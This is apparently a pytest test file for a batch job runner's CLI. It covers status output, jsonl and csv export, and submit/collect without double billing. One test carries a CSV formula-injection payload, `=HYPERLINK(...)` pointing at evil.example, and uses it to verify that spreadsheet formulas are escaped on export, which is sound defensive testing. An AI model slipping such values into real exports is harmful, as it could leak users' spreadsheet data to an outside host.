"""What scripts read back: `status --json`, `export` (jsonl / csv), and split `submit` + `collect`."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from pathlib import Path
from typing import Any

from runner.jobs import JobState, canonical_json

from test_cli_support import (
    THREE_JOBS_USD,
    Provider,
    ProviderFactory,
    counts,
    export_jsonl,
    provider,
    run_args,
    run_cli,
    status,
    write_manifest,
)

__all__ = ["provider"]  # the fixture, imported for pytest

EXPORT_FIELDS = {"key", "state", "task_id", "request", "vars", "repeat", "path", "sha256", "bytes",
                 "estimated_usd", "attempts", "error"}


def _done_batch(tmp_path: Path, sim: Provider) -> tuple[Path, Path]:
    manifest = write_manifest(tmp_path)
    state = tmp_path / "state"
    result = run_cli(*run_args("run", manifest, state, *sim.engine_args()), cwd=tmp_path)
    assert result.code == 0, str(result)
    return manifest, state


def _check_record(record: dict[str, Any], sim: Provider, cwd: Path) -> None:
    """One exported job agrees with what the simulator received, billed and served."""
    task = sim.sim.task(record["task_id"])
    assert record["request"] == task.body  # the exact body the provider received
    assert hashlib.sha256(canonical_json(record["request"]).encode()).hexdigest() == task.body_sha256
    video = (cwd / record["path"]).read_bytes()  # path opens from the current directory
    assert video == sim.sim.video(record["task_id"])
    assert record["sha256"] == hashlib.sha256(video).hexdigest() == task.video_sha256
    assert int(record["bytes"]) == len(video)
    assert record["vars"]["animal"] in record["request"]["prompt"]
    assert int(record["repeat"]) == 1
    assert int(record["attempts"]) == 1
    assert float(record["estimated_usd"]) == THREE_JOBS_USD / 3
    assert record["error"] in (None, "")
    assert record["state"] == "done"


def test_status_json_counts_every_state(tmp_path: Path, provider: ProviderFactory) -> None:
    """`runner status --json` prints {"total": N, "counts": {...}} with every state present, zeros included."""
    sim = provider(task_seconds=60.0)
    manifest = write_manifest(tmp_path)
    state = tmp_path / "state"
    assert run_cli(*run_args("submit", manifest, state, *sim.engine_args("--concurrency", "2")), cwd=tmp_path).code == 3
    data = status(tmp_path, manifest, state)
    assert data["total"] == 3
    assert set(data["counts"]) == {str(s) for s in JobState}
    assert data["counts"] == {**{str(s): 0 for s in JobState}, "running": 2, "pending": 1}


def test_export_jsonl_and_csv_carry_exact_request_and_verified_file(tmp_path: Path,
                                                                    provider: ProviderFactory) -> None:
    """`export` (jsonl and csv): one record per job, the exact body sent, a path that opens from cwd, sha256…"""
    sim = provider()
    manifest, state = _done_batch(tmp_path, sim)
    records = export_jsonl(tmp_path, manifest, state)
    assert len(records) == 3
    assert {r["vars"]["animal"] for r in records} == {"cat", "dog", "owl"}
    for record in records:
        assert EXPORT_FIELDS <= set(record), sorted(record)
        _check_record(record, sim, tmp_path)
    result = run_cli("export", str(manifest), "--state", str(state), "--format", "csv", cwd=tmp_path)
    assert result.code == 0, str(result)
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == 3
    for row in rows:
        assert EXPORT_FIELDS <= set(row), sorted(row)
        record: dict[str, Any] = {**row, "request": json.loads(row["request"]), "vars": json.loads(row["vars"])}
        _check_record(record, sim, tmp_path)


def test_submit_then_collect_with_and_without_manifest_finishes_without_paying_twice(
        tmp_path: Path, provider: ProviderFactory) -> None:
    """cron split: `submit` records task_ids (exit 3); `collect [MANIFEST]` downloads, submits nothing; paid once."""
    sim = provider()
    manifest = write_manifest(tmp_path)
    state = tmp_path / "state"
    submitted = run_cli(*run_args("submit", manifest, state, *sim.engine_args("--concurrency", "2")), cwd=tmp_path)
    assert submitted.code == 3, str(submitted)
    assert counts(state) == {"running": 2, "pending": 1}
    collected = run_cli(*run_args("collect", manifest, state, *sim.engine_args()), cwd=tmp_path)
    assert collected.code == 3, str(collected)  # one job is still pending: work outstanding
    assert counts(state) == {"done": 2, "pending": 1}
    assert sim.accepted() == 2  # collect submitted nothing
    rest = run_cli(*run_args("submit", manifest, state, *sim.engine_args()), cwd=tmp_path)
    assert rest.code == 3, str(rest)
    last = run_cli(*run_args("collect", None, state, *sim.engine_args()), cwd=tmp_path)
    assert last.code == 0, str(last)
    assert counts(state) == {"done": 3}
    assert sim.accepted() == 3 and sim.max_per_body() == 1
    for record in export_jsonl(tmp_path, manifest, state):
        _check_record(record, sim, tmp_path)


def test_export_csv_keeps_a_providers_formula_from_running_in_a_spreadsheet(tmp_path: Path) -> None:
    """A failed task's reason is the provider's text, and `export --format csv` wrote it as it came: a reason
    ``=HYPERLINK("https://evil.example/?"&A2, "details")`` opened in a spreadsheet as a live formula (sending the
    row to another site). A text cell that a spreadsheet would read as a formula (=, +, -, @, a tab, a CR first)
    is written with a ``'`` before it, as OWASP advises; JSONL keeps the text as it is."""
    from runner.ledger import open_ledger
    from runner.manifest import expand, load_manifest

    manifest, state = write_manifest(tmp_path), tmp_path / "state"
    loaded = load_manifest(manifest)
    specs = list(expand(loaded))
    hostile = '=HYPERLINK("https://evil.example/?"&A2, "details")'
    with open_ledger(state) as ledger:
        ledger.register(loaded.name, loaded.digest, specs)
        attempt = ledger.mark_submitting(specs[0].key)
        assert attempt is not None
        assert ledger.mark_running(specs[0].key, attempt, task_id="t-1", http_status=200)
        assert ledger.mark_failed(specs[0].key, reason=hostile)
    result = run_cli("export", str(manifest), "--state", str(state), "--format", "csv", cwd=tmp_path)
    assert result.code == 0, str(result)
    row = next(r for r in csv.DictReader(io.StringIO(result.stdout)) if r["key"] == specs[0].key)
    assert row["error"].startswith("'=HYPERLINK(") and row["task_id"] == "t-1", row
    assert hostile in [r["error"] for r in export_jsonl(tmp_path, manifest, state)]
